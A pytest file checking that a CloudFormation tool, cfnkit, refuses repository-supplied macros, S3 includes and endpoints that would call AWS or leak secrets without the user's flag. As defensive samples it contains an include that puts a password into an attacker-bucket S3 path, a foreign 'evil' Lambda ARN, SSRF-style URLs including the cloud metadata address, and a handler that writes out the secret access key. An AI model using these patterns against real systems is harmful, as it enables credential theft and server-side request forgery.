"""What a checkout's own files ask for is not done by their word alone; a server on 127.0.0.1 counts the requests."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from cfnkit.testing.local.loopback_server import LoopbackHandler
from cli.checkouts import Run, checkout, run
from support.serving import serving

__all__ = ["run"]

PASSWORD = "hunter2hunter2"
INCLUDE = """\
Parameters: {DbPassword: {Type: String, NoEcho: true, Default: hunter2hunter2}}
Resources:
  Q: {Type: AWS::SQS::Queue}
Outputs:
  Fn::Transform: {Name: AWS::Include, Parameters: {Location: !Sub "s3://attacker-bucket/x/${DbPassword}.yaml"}}
"""
FOREIGN = "arn:aws:lambda:us-east-1:666666666666:function:evil"


class Request(NamedTuple):
    """A request that reached the server."""

    line: str
    body: str


class Server(NamedTuple):
    """A server that answers as Lambda, STS and S3 do, and the requests so far."""

    url: str
    requests: list[Request]

    @property
    def calls(self) -> list[Request]:
        """The calls of functions."""
        return [request for request in self.requests if "/invocations" in request.line]


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[Server]:
    """The server, which boto3 finds by the environment, with credentials of the account 123456789012."""
    requests: list[Request] = []

    class Handler(LoopbackHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
            requests.append(Request(f"POST {self.path}", body))
            if "GetCallerIdentity" in body:
                answer = "<R><GetCallerIdentityResult><Account>123456789012</Account></GetCallerIdentityResult></R>"
                self.send(200, answer.encode(), "text/xml")
                return
            event = json.loads(body)
            response = {"requestId": event["requestId"], "status": "success", "fragment": event["fragment"]}
            self.send(200, json.dumps(response).encode(), "application/json")

        def do_GET(self) -> None:
            requests.append(Request(f"GET {self.path}", ""))
            self.send(200, b"{}", "application/json")

    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "AKIDEXAMPLE")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "not-a-secret")
    monkeypatch.setenv("AWS_SESSION_TOKEN", "session")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "us-east-1")
    with serving(Handler) as url:
        monkeypatch.setenv("AWS_ENDPOINT_URL", url)
        yield Server(url, requests)


def macro(**keys: str) -> str:
    return f"macros: {json.dumps({'Evil': keys})}"


COMMANDS = (
    ("cfnkit", "check", "t.yaml", "-p", f"DbPassword={PASSWORD}"),
    ("cfnkit", "check", "t.yaml", "-p", f"DbPassword={PASSWORD}", "--run-macros-twice"),
    ("cfnkit", "render", "t.yaml", "-p", f"DbPassword={PASSWORD}", "--stage", "resolved"),
    ("cfnkit", "explain", "t.yaml", "Resources", "-p", f"DbPassword={PASSWORD}"),
    ("cfnkit", "graph", "t.yaml", "-p", f"DbPassword={PASSWORD}"),
    ("cfnkit", "refs", "t.yaml"),
    ("cfnkit", "macro", "record", "t.yaml", "--to", "recordings", "-p", f"DbPassword={PASSWORD}"),
    ("cfnkit", "macro", "run", "Evil", "t.yaml", "-p", f"DbPassword={PASSWORD}"),
)
CFN_LINT = ("cfn-lint", "-a", "cfnkit.lint.rules", "--", "t.yaml")


@pytest.mark.parametrize("words", [*COMMANDS, CFN_LINT], ids=lambda words: " ".join(words[:3]))
def test_nothing_is_sent_without_the_users_word(
    run: Run, tmp_path: Path, server: Server, words: tuple[str, ...]
) -> None:
    checkout(tmp_path / "repo", macro(**{"lambda": FOREIGN, "endpoint_url": server.url}))
    ran = run(tmp_path / "repo", *words)
    assert server.requests == []
    assert ran.returncode != 0
    assert "--aws" in ran.stdout + ran.stderr
    assert "Traceback" not in ran.stderr


@pytest.mark.slow
def test_plain_cfn_lint_keeps_to_what_the_user_permits(run: Run, tmp_path: Path, server: Server) -> None:
    folder = checkout(tmp_path / "repo", macro(**{"lambda": "own"}))
    run(folder, *CFN_LINT, CFNKIT_AWS="1", CFNKIT_OFFLINE="1")
    assert server.requests == []
    assert "--macros never" in run(folder, *CFN_LINT, CFNKIT_AWS="1", CFNKIT_MACROS="never").stdout
    assert server.requests == []
    run(folder, *CFN_LINT, CFNKIT_AWS="1")
    assert len(server.calls) == 1


def test_what_is_not_asked_is_a_finding_at_the_call_and_the_rest_is_judged(
    run: Run, tmp_path: Path, server: Server
) -> None:
    called = "Fn::Transform: {Name: Evil}"
    wrong = f"""Resources:
  Q: {{Type: AWS::SQS::Queue, Properties: {{Tags: [], {called}}}}}
  R: {{Type: AWS::SQS::Queue, Properties: {{DelaySeconds: never}}}}
"""
    folder = checkout(tmp_path / "repo", macro(**{"lambda": "payout"}), wrong)
    ran = run(folder, "cfnkit", "check", "t.yaml", "--format", "json")
    found = {(finding["Rule"]["Id"], finding["Location"]["Start"]["LineNumber"]) for finding in json.loads(ran.stdout)}
    assert {("W9749", 2), ("E3012", 3)} <= found
    assert server.requests == []


def test_a_render_says_that_it_is_not_whole(run: Run, tmp_path: Path, server: Server) -> None:
    folder = checkout(tmp_path / "repo", macro(**{"lambda": "payout"}))
    ran = run(folder, "cfnkit", "render", "t.yaml", "-p", "DbPassword=x")
    assert ran.returncode == 1
    assert "Transform: Evil" in ran.stdout
    assert "not the whole result" in ran.stderr


def test_with_the_users_word_a_function_of_the_own_account_is_called_once(
    run: Run, tmp_path: Path, server: Server
) -> None:
    folder = checkout(tmp_path / "repo", macro(**{"lambda": "arn:aws:lambda:us-east-1:123456789012:function:own"}))
    for number, (words, more) in enumerate(
        [
            (("--aws",), {}),
            ((), {"CFNKIT_AWS": "1"}),
            (("--aws", "--run-macros-twice"), {}),
        ],
        1,
    ):
        run(folder, "cfnkit", "check", "t.yaml", "--no-cache", *words, **more)
        assert len(server.calls) == number


@pytest.mark.parametrize(
    "function",
    [
        FOREIGN,
        f"{FOREIGN}:live",
        "666666666666:function:evil",
        "666666666666:evil",
        "us-east-1:666666666666:function:evil",
        "arn:aws-us-gov:lambda:us-gov-west-1:666666666666:function:evil",
    ],
)
def test_a_function_of_another_account_needs_that_accounts_name(
    run: Run, tmp_path: Path, server: Server, function: str
) -> None:
    folder = checkout(tmp_path / "repo", macro(**{"lambda": function}))
    ran = run(folder, "cfnkit", "render", "t.yaml", "-p", "DbPassword=x", "--aws")
    assert (ran.returncode, server.calls) == (1, [])
    assert "--aws-account 666666666666" in ran.stderr
    ran = run(folder, "cfnkit", "render", "t.yaml", "-p", "DbPassword=x", "--aws", "--aws-account", "666666666666")
    assert (ran.returncode, len(server.calls)) == (0, 1), ran.stderr


@pytest.mark.parametrize(
    "url",
    [
        "http://localhost.evil.example",
        "http://127.0.0.1.nip.example",
        "http://127.0.0.1@evil.example",
        "http://evil.example#@127.0.0.1",
        "http://evil.example\\@127.0.0.1",
        "http://169.254.169.254/latest/meta-data",
        "https://[fd00:ec2::254]/",
        "http://0x7f000001.example",
    ],
)
def test_an_endpoint_that_is_not_on_this_machine_comes_from_the_user(
    run: Run, tmp_path: Path, server: Server, url: str
) -> None:
    folder = checkout(tmp_path / "repo", macro(**{"lambda": "own", "endpoint_url": url}))
    ran = run(folder, "cfnkit", "render", "t.yaml", "-p", "DbPassword=x", "--aws", "--format", "json")
    assert (ran.returncode, server.requests) == (1, [])
    assert "is not on this machine" in ran.stderr


@pytest.mark.parametrize("words", COMMANDS, ids=lambda words: " ".join(words[:3]))
def test_offline_beats_all(run: Run, tmp_path: Path, server: Server, words: tuple[str, ...]) -> None:
    folder = checkout(tmp_path / "repo", macro(**{"lambda": "own"}) + "\nincludes: {'s3://b/': {aws: true}}")
    run(folder, *words, "--aws", "--offline")
    run(folder, *words, CFNKIT_AWS="1", CFNKIT_OFFLINE="1")
    assert server.requests == []


def test_an_include_in_s3_needs_the_users_word_and_takes_no_secret(run: Run, tmp_path: Path, server: Server) -> None:
    folder = checkout(tmp_path / "repo", 'includes: {"s3://attacker-bucket": {aws: true}}', INCLUDE)
    for more in ((), ("--aws",)):
        for command in ("check", "render"):
            ran = run(folder, "cfnkit", command, "t.yaml", *more)
            assert ran.returncode not in (0, 2), ran.stdout
            assert PASSWORD not in ran.stdout + ran.stderr
    assert server.requests == []


def test_a_handler_gets_no_credentials_without_the_users_word(run: Run, tmp_path: Path, server: Server) -> None:
    folder = checkout(tmp_path / "repo", "macros: {Evil: {handler: h.py:handler, aws: true}}")
    code = "import os\ndef handler(event, context):\n    open(os.environ['LAMBDA_TASK_ROOT'] + '/../ran', 'w').write("
    code += "str(os.environ.get('AWS_SECRET_ACCESS_KEY')))\n    return {**event, 'status': 'success'}\n"
    (folder / "h.py").write_text(code)
    for words in COMMANDS:
        run(folder, *words)
    (folder / "live.json").write_text(json.dumps({"version": 1, "stack": {"name": "s"}, "resources": []}))
    run(folder, "cfnkit", "drift", "t.yaml", "--actual", "live.json")
    assert not (tmp_path / "ran").exists()
    ran = run(folder, "cfnkit", "render", "t.yaml", "-p", "DbPassword=x", "--aws")
    assert ran.returncode == 0, ran.stderr
    assert (tmp_path / "ran").read_text() == "not-a-secret"
    (folder / ".cfnkit.yaml").write_text("version: 1\nmacros: {Evil: {handler: h.py:handler}}\n")
    run(folder, "cfnkit", "render", "t.yaml", "-p", "DbPassword=x", "--aws")
    assert (tmp_path / "ran").read_text() == "None"


@pytest.mark.parametrize("mode", ["never", "replay"])
def test_no_code_of_a_macro_runs_where_the_user_forbids_it(run: Run, tmp_path: Path, mode: str) -> None:
    folder = checkout(tmp_path / "repo", "macros: {Evil: {handler: h.py:handler}}")
    (folder / "h.py").write_text("open('/'.join(__file__.split('/')[:-1]) + '/../ran', 'w')\n")
    for words in COMMANDS:
        ran = run(folder, *words, "--macros", mode)
        assert ran.returncode != 0
        assert f"--macros {mode}" in ran.stdout + ran.stderr
    assert not (tmp_path / "ran").exists()
    run(folder, "cfnkit", "render", "t.yaml")
    assert (tmp_path / "ran").exists()


def test_recordings_answer_where_the_user_forbids_code(run: Run, tmp_path: Path) -> None:
    folder = checkout(tmp_path / "repo", "macros: {Evil: {handler: h.py:handler}}")
    (folder / "h.py").write_text("def handler(event, context):\n    return {**event, 'status': 'success'}\n")
    run(folder, "cfnkit", "macro", "record", "t.yaml", "--to", "recordings", "-p", "DbPassword=x")
    (folder / "h.py").unlink()
    (folder / ".cfnkit.yaml").write_text("version: 1\nmacros: {Evil: {replay: recordings}}\n")
    ran = run(folder, "cfnkit", "render", "t.yaml", "-p", "DbPassword=y", "--macros", "replay")
    assert ran.returncode == 0, ran.stderr
    assert run(folder, "cfnkit", "render", "t.yaml", "-p", "DbPassword=y", "--macros", "never").returncode == 1


def test_a_check_gives_no_macro_a_secret(run: Run, tmp_path: Path, server: Server) -> None:
    template = """\
Transform: [Evil, AWS::LanguageExtensions]
Parameters:
  DbPassword: {Type: String, NoEcho: true, MinLength: 4}
  Pin: {Type: String, NoEcho: true, AllowedPattern: "[A-Z]{2}[0-9]{4}", Default: XY9876}
Resources:
  Q:
    Type: AWS::SQS::Queue
    Properties:
      Fn::Transform: {Name: Evil, Parameters: {P: !Ref DbPassword, Q: !Base64 {Ref: DbPassword}, R: !Ref Pin}}
      QueueName: q
"""
    folder = checkout(tmp_path / "repo", macro(**{"lambda": "own"}), template)
    ran = run(folder, "cfnkit", "check", "t.yaml", "-p", f"DbPassword={PASSWORD}", "--aws", "--no-cache")
    assert len(server.calls) == 2
    for call in server.calls:
        values = json.loads(call.body)["templateParameterValues"]
        assert re.fullmatch("[A-Z]{2}[0-9]{4}", values["Pin"])
        for secret in (PASSWORD, base64.b64encode(PASSWORD.encode()).decode(), "XY9876"):
            assert secret not in call.body
        assert values["DbPassword"] not in ran.stdout
    assert "Sample" not in ran.stdout
    run(folder, "cfnkit", "render", "t.yaml", "-p", f"DbPassword={PASSWORD}", "--aws")
    assert PASSWORD in server.calls[-1].body
